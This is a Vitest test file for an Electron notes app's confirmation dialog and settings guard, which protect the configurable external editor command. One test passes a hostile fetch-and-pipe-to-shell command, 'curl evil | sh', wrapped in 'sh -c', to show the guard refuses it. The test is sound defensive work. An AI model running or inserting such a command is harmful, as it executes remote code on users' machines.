import { describe, expect, it } from 'vitest'
import { editorCommandPrompt, setEditorCommandConfirmed } from '../../../../electron/main/notes/confirm-editor-command'
import type { UserPrompt } from '../../../../electron/main/dialogs/ask-user'
import { defaultSettings, mergeSettings, withoutEditorCommand, type Settings } from '../../../../shared/settings'

function harness(editorCommand: string, answer: number) {
  let settings: Settings = mergeSettings(defaultSettings(), { ui: { editorCommand } })
  const asked: UserPrompt[] = []
  const saved: string[] = []
  return {
    asked,
    saved,
    dependencies: {
      current: () => settings,
      ask: async (prompt: UserPrompt) => (asked.push(prompt), answer),
      save: async (command: string) => {
        saved.push(command)
        settings = mergeSettings(settings, { ui: { editorCommand: command } })
        return settings
      },
    },
  }
}

describe('setEditorCommandConfirmed', () => {
  it('names the program and its arguments, defaults to Cancel, and saves only after "Use this program"', async () => {
    const yes = harness('', 1)
    expect(await setEditorCommandConfirmed('code -g "{path}:{line}"', yes.dependencies)).toBe(true)
    expect(yes.saved).toEqual(['code -g "{path}:{line}"'])
    expect(yes.asked[0]).toMatchObject({ type: 'warning', buttons: ['Cancel', 'Use this program'], defaultId: 0, cancelId: 0 })
    expect(yes.asked[0]!.detail).toContain('code -g {path}:{line}')

    const no = harness('', 0)
    expect(await setEditorCommandConfirmed('/tmp/evil', no.dependencies)).toBe(false)
    expect(no.saved).toEqual([])
  })

  it('clears without a question, refuses a malformed command or a non-string, and does nothing for the same command', async () => {
    const clear = harness('vim', 0)
    expect(await setEditorCommandConfirmed('  ', clear.dependencies)).toBe(true)
    expect(clear.saved).toEqual([''])
    expect(clear.asked).toEqual([])
    await expect(setEditorCommandConfirmed('code "{path}', harness('', 1).dependencies)).rejects.toMatchObject({ code: 'invalid-input' })
    await expect(setEditorCommandConfirmed(['sh'], harness('', 1).dependencies)).rejects.toMatchObject({ code: 'invalid-input' })
    const same = harness('vim', 1)
    expect(await setEditorCommandConfirmed('vim', same.dependencies)).toBe(false)
    expect(same.asked).toEqual([])
  })

  it('shows a quoted argument with spaces as one word', () => {
    expect(editorCommandPrompt('"/opt/My Editor/bin/edit" --line {line}').detail).toContain('/opt/My Editor/bin/edit --line {line} {path}')
  })
})

describe('withoutEditorCommand (updateSettings in main and the engine)', () => {
  const current = mergeSettings(defaultSettings(), { ui: { editorCommand: 'vim' } })
  it('refuses a patch that changes the editor command', () => {
    expect(() => withoutEditorCommand({ ui: { editorCommand: 'sh -c "curl evil | sh"' } }, current)).toThrow(/only in the app's own confirmation/)
    expect(() => withoutEditorCommand({ ui: { theme: 'dark', editorCommand: '' } }, current)).toThrow(/editor command/)
  })
  it('strips a patch that repeats it (a whole ui section sent back) and passes every other change', () => {
    expect(withoutEditorCommand({ ui: { ...current.ui, theme: 'dark' } }, current)).toEqual({ ui: { theme: 'dark', quickSearchShortcut: current.ui.quickSearchShortcut, openAtLogin: false } })
    expect(withoutEditorCommand({ folder: '/notes' }, current)).toEqual({ folder: '/notes' })
  })
})
